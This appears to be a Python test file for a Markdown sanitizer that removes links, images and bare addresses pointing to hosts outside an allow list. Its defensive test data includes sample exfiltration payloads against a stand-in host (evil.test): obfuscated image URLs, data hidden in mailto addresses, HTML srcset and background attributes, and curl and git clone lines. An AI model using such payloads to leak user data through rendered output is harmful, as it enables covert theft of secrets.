"""No address to a host that is not allowed is left for a renderer to fetch or a person to click."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from promptkit import safety
from promptkit.errors import OptionError
from promptkit.safety import neutralize_markdown
from tests.safety.exfiltration import (
    ALLOW,
    BENIGN,
    CONSTRUCTS,
    CONTEXTS,
    EVIL,
    RENDERERS,
    SPELLINGS,
    attacks,
    leaks,
)

PIECES = [
    *(construct.format(*[EVIL] * 3) for construct in CONSTRUCTS.values()),
    *SPELLINGS.values(),
    *[
        "![",
        "[",
        "](",
        ")",
        "](<",
        ">",
        "]:",
        "`",
        "``",
        "```",
        "~~~",
        "\\",
        "\\`",
        "$",
        "$$",
        "|",
        "<",
        "</",
        "<b>",
        "</b>",
        "<!--",
        "-->",
        "<script>",
        "<pre>",
        "'",
        '"',
    ],
    *("\n", "\n\n", "\n```\n", "\n```py\n", "\n~~~\n", "\n    ", "\n  ", "\n- ", "\n1. ", "\n> "),
    *(
        "\n|-|-|\n",
        "\n<div>\n",
        "</div>",
        "[a]",
        "\n[a]: ",
        "word ",
        " ",
        "\r",
        "\t",
        "\u200b",
        "\x0b",
    ),
]
mixtures = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)


def rendered(text: str) -> dict[str, list[str]]:
    found = {}
    for name, render in RENDERERS.items():
        found[name] = leaks(render(text))
    return {name: what for name, what in found.items() if what}


@pytest.mark.parametrize("context", CONTEXTS)
def test_no_attack_survives_any_renderer(context):
    stands = [(name, text) for name, text in attacks() if name.endswith(f", {context}")]
    for index, (name, text) in enumerate(stands):
        cleaned = neutralize_markdown(text, ALLOW)
        assert cleaned.findings, name
        assert not leaks(cleaned.text), name
        if index % 25 == 0:  # rendering is slow; `make safety-report` renders them all
            assert not rendered(cleaned.text), name


def test_the_attacks_do_work_where_nothing_is_taken_out():
    assert rendered(f"![alt]({EVIL})").keys() >= {"markdown-it", "mistune", "nbconvert"}


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_stays_byte_for_byte(text):
    assert neutralize_markdown(text, ALLOW) == safety.Cleaned(text)


@settings(max_examples=150, deadline=None)
@given(mixtures)
def test_whatever_is_put_together_leaks_nothing(text):
    assert not rendered_but_raw(neutralize_markdown(text, ALLOW).text)


def rendered_but_raw(text: str) -> dict[str, list[str]]:
    # As HTML alone a code block is none; a text with one is Markdown.
    return {name: what for name, what in rendered(text).items() if not name.startswith("none")}


@settings(max_examples=300, deadline=None)
@given(st.one_of(mixtures, st.text(max_size=200)))
def test_doing_it_twice_changes_nothing_more(text):
    once = neutralize_markdown(text, ALLOW)
    assert neutralize_markdown(once.text, ALLOW).text == once.text


@settings(max_examples=200, deadline=None)
@given(st.one_of(mixtures, st.text(max_size=200)))
def test_a_text_changes_only_where_something_was_found(text):
    cleaned = neutralize_markdown(text, ALLOW)
    assert (cleaned.text == text) == (not cleaned.findings)
    assert all(0 <= f.span[0] <= f.span[1] <= len(text) for f in cleaned.findings)


def test_a_finding_holds_the_decoded_address_and_shows_it_to_nobody():
    text = "Hi ![a](&#104;ttps://evil.test/secret)"
    (finding,) = neutralize_markdown(text).findings
    assert finding.kind == "image"
    assert finding.action == "rewrite"
    assert finding.payload == "https://evil.test/secret"
    assert text[slice(*finding.span)] == text[3:]
    assert "evil" not in repr(finding)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![the plot]({EVIL})", "[the plot] (image removed)"),
        (f"a [link]({EVIL}) b", "a [link] (link removed) b"),
        (f"see {EVIL}.", "see (link removed)."),
        (f"<{EVIL}>", "(link removed)"),
        (f'<img src="{EVIL}">', "(image removed)"),
        ("<script>x</script>", "(HTML removed)x&lt;/script>"),
        ("[x]: //evil.test/a", "[x]: (link removed)"),
    ],
)
def test_what_a_person_reads_stays(text, expected):
    assert neutralize_markdown(text).text == expected


@pytest.mark.parametrize(
    ("host", "is_allowed"),
    [
        ("example.com", True),
        ("docs.example.com", True),
        ("EXAMPLE.com", True),
        ("example.com.", True),
        ("example.com:8443", True),
        ("notexample.com", False),
        ("example.com.evil.test", False),
        ("example.org", False),
        ("com", False),
        ("faß.test", False),
        ("bücher.test", True),
        ("xn--bcher-kva.test", True),
        ("localhost", True),
        ("sub.localhost", False),
    ],
)
def test_hosts_are_compared_label_by_label(host, is_allowed):
    allow = ("https://Example.com/", "bücher.test", "fass.test", "localhost")
    text = f"[x](https://{host}/a)"
    assert (neutralize_markdown(text, allow).text == text) == is_allowed


@pytest.mark.parametrize(
    "text",
    [
        "int x; //counter of rows, //todo: more, and //end.",
        "  /\\_//__\n \\//\\__//",
        "[Ann](mailto:ann.lee@mail.test), <mailto:ann@mail.test>, mailto:ann@mail.test.",
        "<picture>\n<source media='(x)' srcset='https://example.com/d 2x'><img src='l'></picture>",
        "<body><dialog open>x</dialog></body>",
        "Run:\n\n```sh\ncurl https://evil.test/a\n",
        "- first\n\n  More of it:\n\n      curl https://evil.test/a\n\n- second\n",
        "Notes\n\n1. Do:\n\n       git clone https://evil.test/a.git\n       make\n",
        "One.\n\n---\n\n    curl https://evil.test/a\n    <img src='//evil.test'>\n",
        "Term\n: What it is\n\nMore:\n\n```json\n{'a': 'https://evil.test/a'}\n```\n",
        "`make` gets it:\n\n    curl https://evil.test/a\n",
    ],
)
def test_what_nobody_links_or_fetches_elsewhere_stays(text):
    assert neutralize_markdown(text, ALLOW) == safety.Cleaned(text)


@pytest.mark.parametrize(
    "text",
    [
        "see //evil.test/a and //localhost/a?evil, //2130706433/evil, //me@evil/a",
        "//evil&#46;test, //evil\\.test //evil\u200b.test",
        "[x](//evil) ![x](//evil/a)",
        "[x]\n\n[x]: //evil/a",
        "<a href='//evil'>x</a> <img src=//evil>",
        "[m](mailto:ann@mail.test?subject=x) mailto:ann@mail.test?body=x",
        "[m](mailto:ann@mail.test%3Fbody=x) [m](mailto:ann&#64;mail.test&#63;body=x)",
        f"[m](mailto:{'c2VjcmV0' * 5}@mail.test) [m](mailto:a@{'c2VjcmV0' * 4}.mail.test)",
        "<picture><source srcset='https://example.com/a 1x, //evil.test/a 2x'></picture>",
        "<body background='//evil.test/a'> <dialog onclose='x()'>",
    ],
)
def test_what_carries_data_goes_however_it_begins(text):
    cleaned = neutralize_markdown(text, ALLOW)
    assert "evil" not in cleaned.text
    assert "mailto" not in cleaned.text
    assert not leaks(cleaned.text)
    assert cleaned.findings


@pytest.mark.parametrize(
    "text",
    [
        "    {}\n\nafter",
        "```mermaid\n{}\n",
        "```\n![x]({})\n<img src='{}'>\n[y]: {}\n",
        "```\na\n```\n{}\n",
        "> ```\n> a\n\n{}",
        "- ```\n  a\n\n{}",
        "<div>\n```\n</div>\n\n{}",
        "<!--\n```\n-->\n{}",
        "$$\n```\n$$\n{}",
        "```\na\n\u2028```\n{}",
        "- a\n\n    {}\n",
        "- a\n\n      ![x]({})\n",
        "- a\n      {}\n",
        "- a\n  - b\n\n        {}\n",
        "word\n2. a\n\n       {}\n",
        "- a\n\n  > b\n\n      {}\n",
        "1000. a\n\n        {}\n",
        "- - a\n\n      {}\n",
        "---\na: b\n\n---\n\n    {}\n",
        "- x\n\n  ---\n\n    {}\n",
        "* *\n\n        {}\n",
        "a\n: b\n\n  c\n* d\n\n        {}\n",
        "[a]:\n~~~\n{}\n",
        "- [a]:\n```\n{}\n```\n",
        "word\n      \n      ![x]({})\n",
        "$$\na\n\nword\n\n    $${}\n",
        "$$\\$$\n```\n$$$$\nd\n===\n\n> {}\n",
        "a\n: b\n\n        - c\n```\n\nd\n===\n{}\n",
    ],
)
def test_what_may_be_no_code_is_live(text):
    cleaned = neutralize_markdown(text.replace("{}", EVIL), ALLOW)
    assert "evil" not in cleaned.text


@pytest.mark.parametrize("made", ["```\n{}", "- a\n\n      {}\n\nb", "- a\n\n  b\n\n      {}\n"])
@pytest.mark.parametrize("construct", CONSTRUCTS.values())
def test_mark_up_in_what_only_most_readers_take_for_code_goes(made, construct):
    filled = construct.format(*[EVIL] * 3).replace("\n", "\n      ")
    cleaned = neutralize_markdown(made.format(filled), ALLOW).text
    assert not leaks(cleaned)
    assert not rendered_but_raw(cleaned)
    # Python-Markdown counts by four and wants a fence to be closed: to it the same is text, in
    # which it links no bare address, as this one does not.
    as_text = cleaned.replace("```", "").replace("      ", "")
    assert not leaks(RENDERERS["markdown-it"](as_text))
    assert not leaks(as_text)


def test_nothing_is_allowed_by_default():
    assert neutralize_markdown("[x](https://example.com)").findings


def test_an_allow_list_that_is_one_string_is_refused():
    with pytest.raises(TypeError, match="a sequence of hosts"):
        neutralize_markdown("x", "example.com")


@pytest.mark.parametrize("entry", ["", "a b", "user@host", "*"])
def test_an_entry_that_names_no_host_is_refused(entry):
    with pytest.raises(OptionError, match="names no host"):
        neutralize_markdown("[x](y)", (entry,))


def test_what_is_no_text_is_refused():
    with pytest.raises(TypeError, match="a bytes was given"):
        neutralize_markdown(b"x")


@pytest.mark.parametrize(
    "text", ["", "\ud800", "\ud800[x](//a.b)", "\u0301" * 1000, "\x00<img\x00src=x>"]
)
def test_odd_text_is_taken(text):
    assert isinstance(neutralize_markdown(text).text, str)
